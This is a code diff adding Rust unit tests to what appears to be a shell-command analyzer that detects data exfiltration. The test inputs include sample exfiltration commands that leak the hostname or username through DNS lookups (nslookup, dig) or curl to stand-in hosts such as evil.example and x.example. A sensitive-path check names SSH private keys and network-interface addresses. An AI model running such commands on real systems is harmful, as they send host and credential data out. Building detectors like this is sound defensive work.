@@ -433,3 +433,31 @@ fn dns_needs_a_domain() {
     let a = an("N=$(hostname).evil.example; nslookup $N");
     assert_eq!(a.flows[0].endpoints, vec!["evil.example"]);
 }
+
+#[test]
+fn curl_over_a_unix_socket_stays_local() {
+    quiet("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json");
+    assert_eq!(an("curl -s http://x.example/$HOSTNAME").flows.len(), 1);
+}
+
+#[test]
+fn commands_built_elsewhere_carry_their_inputs() {
+    use crate::analyze_command;
+    use telltale_facts::{Kinds, Span};
+    let span = Span::new(10, 20);
+    let data = vec![("TT_PY_0".to_string(), Kinds::of(DataKind::Username))];
+    let a = analyze_command("dig +short ${TT_PY_0}.x.example", span, &data);
+    assert_eq!(a.flows.len(), 1);
+    assert_eq!(a.flows[0].sink, SinkKind::Dns);
+    assert_eq!(a.flows[0].span, span);
+    assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
+    // What a command prints.
+    assert!(analyze_command("whoami", span, &[]).output.contains(DataKind::Username));
+    assert!(analyze_command("wmic csproduct get uuid", span, &[]).output.contains(DataKind::MachineId));
+    assert_eq!(analyze_command("curl -s https://x.example/p", span, &[]).output_from.as_deref(), Some("curl"));
+    assert!(analyze_command("echo hi", span, &[]).output_from.is_none());
+    // Paths the catalog and the shell know.
+    assert_eq!(crate::sensitive_path("~/.ssh/id_rsa").map(|p| p.0), Some(DataKind::SshKey));
+    assert_eq!(crate::sensitive_path("/sys/class/net/*/address").map(|p| p.0), Some(DataKind::NetworkInterfaces));
+    assert!(crate::sensitive_path("/tmp/x").is_none());
+}
